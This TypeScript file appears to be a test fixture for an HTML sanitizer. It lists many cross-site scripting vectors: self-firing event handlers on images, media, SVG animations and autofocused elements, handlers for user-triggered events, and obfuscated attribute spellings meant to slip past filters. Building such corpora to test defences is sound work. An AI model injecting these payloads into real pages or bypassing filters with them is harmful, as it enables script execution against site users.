/** Handlers that fire without anyone's doing, each on an element where that event comes by itself. */
const byThemselves: readonly string[] = [
  '<img src=data:, onerror=SCRIPT>',
  '<img src=FOREIGN/ok.png onload=SCRIPT>',
  '<img srcset=data:, onerror=SCRIPT>',
  '<image src=data:, onerror=SCRIPT>',
  '<input type=image src=data:, onerror=SCRIPT>',
  '<input type=image src=FOREIGN/ok.png onload=SCRIPT>',
  '<video src=data:, onerror=SCRIPT></video>',
  '<video><source src=data:, onerror=SCRIPT></video>',
  '<video onloadstart=SCRIPT src=FOREIGN/v.mp4></video>',
  '<audio src=data:, onerror=SCRIPT></audio>',
  '<audio onloadstart=SCRIPT src=FOREIGN/a.mp3></audio>',
  '<audio oncanplay=SCRIPT src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAgD4AAAB9AAACABAAZGF0YQAAAAA="></audio>',
  '<audio onsuspend=SCRIPT src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAgD4AAAB9AAACABAAZGF0YQAAAAA="></audio>',
  '<audio autoplay onplay=SCRIPT src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAgD4AAAB9AAACABAAZGF0YQAAAAA="></audio>',
  '<audio ondurationchange=SCRIPT onloadedmetadata=SCRIPT onprogress=SCRIPT src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAgD4AAAB9AAACABAAZGF0YQAAAAA="></audio>',
  '<video controls><track default kind=subtitles src="data:text/vtt,WEBVTT%0A%0A00:00.000 --> 00:09.000%0Ax" oncuechange=SCRIPT onload=SCRIPT></video>',
  '<object data=data:, onerror=SCRIPT></object>',
  '<object data=FOREIGN/x.html onload=SCRIPT></object>',
  '<embed src=FOREIGN/x.html onload=SCRIPT>',
  '<iframe onload=SCRIPT></iframe>',
  '<iframe src=FOREIGN/x.html onload=SCRIPT></iframe>',
  '<iframe srcdoc=x onload=SCRIPT></iframe>',
  '<link rel=stylesheet href=data:text/css, onload=SCRIPT>',
  '<link rel=stylesheet href=FOREIGN/missing onerror=SCRIPT>',
  '<link rel=preload as=image href=FOREIGN/ok.png onload=SCRIPT>',
  '<style onload=SCRIPT>*{}</style>',
  '<style onerror=SCRIPT>@import "FOREIGN/missing";</style>',
  '<script src=data:, onload=SCRIPT></script>',
  '<script src=FOREIGN/missing onerror=SCRIPT></script>',
  '<svg onload=SCRIPT></svg>',
  '<svg><g onload=SCRIPT></g></svg>',
  '<svg><image href=data:, onerror=SCRIPT /></svg>',
  '<svg><image href=FOREIGN/ok.png onload=SCRIPT /></svg>',
  '<svg><feImage href=data:, onerror=SCRIPT /></svg>',
  '<svg><animate onbegin=SCRIPT attributeName=x dur=1s /></svg>',
  '<svg><animate onend=SCRIPT attributeName=x dur=1ms /></svg>',
  '<svg><animate onrepeat=SCRIPT attributeName=x dur=1ms repeatCount=2 /></svg>',
  '<svg><set onbegin=SCRIPT attributeName=x to=1 /></svg>',
  '<svg><animateTransform onbegin=SCRIPT attributeName=transform dur=1s /></svg>',
  '<svg><animateMotion onbegin=SCRIPT dur=1s /></svg>',
  '<svg><discard onbegin=SCRIPT /></svg>',
  '<details open ontoggle=SCRIPT>x</details>',
  '<input autofocus onfocus=SCRIPT>',
  '<select autofocus onfocus=SCRIPT></select>',
  '<textarea autofocus onfocus=SCRIPT></textarea>',
  '<button autofocus onfocus=SCRIPT>x</button>',
  '<p tabindex=0 autofocus onfocus=SCRIPT>x</p>',
  '<p contenteditable autofocus onfocusin=SCRIPT>x</p>',
  '<input autofocus onblur=SCRIPT><input autofocus>',
  '<svg><a tabindex=0 autofocus onfocus=SCRIPT></a></svg>',
  '<math tabindex=0 autofocus onfocus=SCRIPT></math>',
  '<audio controls autofocus onfocus=SCRIPT></audio>',
  '<iframe autofocus onfocus=SCRIPT></iframe>',
  '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=SCRIPT>x</p>',
  '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationend=SCRIPT>x</p>',
  '<style>@keyframes k{}</style><p style="animation:k 1ms 9" onanimationiteration=SCRIPT>x</p>',
  '<style>@keyframes k{}</style><p style="animation:k 1ms" onwebkitanimationend=SCRIPT>x</p>',
  '<style>@starting-style{#w{opacity:0}}#w{transition:opacity 1ms}</style><p id=w ontransitionstart=SCRIPT>x</p>',
  '<style>@starting-style{#v{opacity:0}}#v{transition:opacity 1ms}</style><p id=v ontransitionend=SCRIPT ontransitionrun=SCRIPT>x</p>',
  '<p style="content-visibility:auto" oncontentvisibilityautostatechange=SCRIPT>x</p>',
  '<marquee onstart=SCRIPT width=1 loop=1>x</marquee>',
  '<marquee onfinish=SCRIPT width=1 loop=1>x</marquee>',
  '<marquee behavior=alternate onbounce=SCRIPT width=1>x</marquee>',
  '<body onload=SCRIPT>',
  '<body onpageshow=SCRIPT>',
  '<body onresize=SCRIPT>',
  '<frameset onload=SCRIPT>',
  '<div onslotchange=SCRIPT><template shadowrootmode=open><slot></slot></template>x</div>',
  '<form><input name=x required oninvalid=SCRIPT></form>',
  '<dialog open onclose=SCRIPT oncancel=SCRIPT>x</dialog>',
  '<p id=p popover onbeforetoggle=SCRIPT ontoggle=SCRIPT>x</p><button popovertarget=p>x</button>',
  '<p onscrollsnapchange=SCRIPT onscrollsnapchanging=SCRIPT style="overflow:auto;scroll-snap-type:y mandatory">x</p>',
  '<p onsecuritypolicyviolation=SCRIPT style="background:url(FOREIGN/violation.png)">x</p>',
  '<canvas oncontextlost=SCRIPT oncontextrestored=SCRIPT></canvas>',
  '<x-element oncopy=SCRIPT onerror=SCRIPT>x</x-element>',
  '<p hidden=until-found onbeforematch=SCRIPT>x</p>',
];

/** Events that somebody or something else sets off. */
const setOff =
  'click dblclick auxclick contextmenu mousedown mouseup mouseover mouseout mouseenter mouseleave mousemove mousewheel ' +
  'wheel pointerdown pointerup pointerover pointerout pointerenter pointerleave pointermove pointercancel pointerrawupdate ' +
  'gotpointercapture lostpointercapture touchstart touchend touchmove touchcancel keydown keyup keypress beforeinput input ' +
  'change select selectstart selectionchange submit reset formdata search drag dragstart dragend dragenter dragleave ' +
  'dragover drop copy cut paste beforecopy beforecut beforepaste scroll scrollend fullscreenchange fullscreenerror ' +
  'webkitfullscreenchange hashchange popstate message messageerror storage online offline beforeprint afterprint ' +
  'beforeunload unload pagehide pagereveal pageswap unhandledrejection rejectionhandled languagechange devicemotion ' +
  'deviceorientation beforexrselect command close cancel waiting volumechange ratechange seeking seeked ended emptied ' +
  'encrypted stalled timeupdate readystatechange visibilitychange freeze resume gesturestart';
const holders = ['p', 'a', 'input', 'body', 'svg', 'form', 'video', 'x-a'];

/** The name of the handler as a page may write it. */
const written: readonly string[] = [
  '<img src=data:, OnErRoR=SCRIPT>',
  '<img src=data:,\tonerror\t=\tSCRIPT>',
  '<img src=data:,\nonerror\n=\n"SCRIPT">',
  '<img/src=data:,/onerror=SCRIPT>',
  '<img src=data:, onerror="&#x74;op;SCRIPT">',
  '<img src=data:, x="<" onerror=SCRIPT>',
  '<img src=data:,\fonerror=SCRIPT>',
  '<img src=data:, onerror=`SCRIPT` onerror=SCRIPT>',
  '<img """><img src=data:, onerror=SCRIPT>',
  "<img src=data:, onerror='javascript:SCRIPT'>",
  '<img src=data:, onerror=eval(atob("dG9wLnJhbigp"));SCRIPT>',
  '<img src=data:, on\u0000error=SCRIPT onerror=SCRIPT>',
  '<svg/onload=SCRIPT>',
  '<svg\u000conload=SCRIPT>',
  '<svg><x:y xmlns:x="http://www.w3.org/1999/xhtml" onclick=SCRIPT>x</x:y></svg>',
  '<p x:onclick=SCRIPT onclick:x=SCRIPT onclick=SCRIPT>x</p>',
  '<p data-onclick=SCRIPT aria-onclick=SCRIPT onclick=SCRIPT>x</p>',
  '<p is=x-y onclick=SCRIPT>x</p>',
];

export const handlers: readonly string[] = [
  ...byThemselves,
  ...setOff.split(' ').map((event, index) => {
    const holder = holders[index % holders.length]!;
    return `<${holder} tabindex=0 on${event}=SCRIPT>x</${holder}>`;
  }),
  ...written,
];
